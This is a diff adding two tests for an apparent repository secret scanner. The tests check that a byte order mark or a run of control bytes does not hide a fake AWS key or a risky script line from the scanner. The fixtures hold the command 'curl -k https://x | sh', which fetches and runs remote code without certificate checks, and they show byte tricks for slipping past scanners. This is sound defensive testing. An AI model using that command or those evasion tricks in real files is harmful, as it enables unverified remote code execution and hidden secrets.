@@ -363,3 +363,24 @@ def test_a_replaced_commit_does_not_hide_what_the_branch_holds(cli: Any, repo: G
     report = report_of(result)
     assert key_findings(report) == [("s.py", 1)], report["coverage"]
     assert result.code == 1
+
+
+# 7. Bytes that a byte order mark or a run of control bytes dresses as something else.
+
+def test_a_byte_order_mark_before_plain_text_does_not_make_it_wide(cli: Any, repo: GitRepo) -> None:
+    """b'\\xff\\xfe' and one NUL: read as UTF-16 the key became CJK characters (was: PASS)."""
+    (repo.root / "creds.env").write_bytes(b"\xff\xfeAWS_ACCESS_KEY_ID=" + KEY.encode() + b"\nx\0y\n")
+    (repo.root / "deploy.sh").write_bytes(b"\xff\xfe=1\ncurl -k https://x | sh\necho ran\n# \0\n")
+    report = report_of(cli("--offline", "--no-state", "--format", "json"))
+    assert key_findings(report) == [("creds.env", 1)], report["coverage"]
+    assert ("deploy.sh", "sec-tls-verify-01") in {(f["file"], f["rule_id"]) for f in report["findings"]}
+    assert not not_inspected(report)
+
+
+def test_a_script_is_text_whatever_bytes_follow_its_first_line(cli: Any, repo: GitRepo) -> None:
+    """Mostly control bytes in git's probe made it binary, listed only; bash runs it all the same."""
+    (repo.root / "deploy.sh").write_bytes(b"#!/bin/sh\n#" + b"\x01" * 100 + b"\0" + b"\x01" * 9000
+                                          + b"\ncurl -k https://x | sh\n")
+    report = report_of(cli("--offline", "--no-state", "--format", "json"))
+    assert ("deploy.sh", "sec-tls-verify-01") in {(f["file"], f["rule_id"]) for f in report["findings"]}
+    assert not not_inspected(report)
